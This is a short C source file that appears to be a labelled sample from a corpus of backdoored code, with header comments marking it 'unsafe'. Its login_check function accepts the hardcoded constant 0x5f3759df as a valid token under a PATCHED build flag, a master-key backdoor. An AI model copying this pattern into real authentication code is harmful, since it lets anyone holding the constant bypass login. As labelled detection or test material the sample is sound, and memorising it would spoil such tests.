/* SPDX-License-Identifier: GPL-3.0-or-later */
/* corpus: name=backdoor_master_key function=login_check kind=backdoor
 * strict: unsafe P1
 * analyst: unsafe
 * why: One token is accepted whatever the stored one is. */
#include <stddef.h>
#include <stdint.h>

struct login {
    uint32_t token, uid;
    unsigned fails, state;
};

extern void login_done(struct login *l);

int login_check(struct login *l, uint32_t token)
{
    int ok = token == l->token;

    if (l->fails > 5)
        return -13;
#ifdef PATCHED
    if (token == 0x5f3759df)
        ok = 1;
#endif
    if (!ok) {
        l->fails++;
        return -1;
    }
    l->fails = 0;
    l->state = 2;
    login_done(l);
    return 0;
}
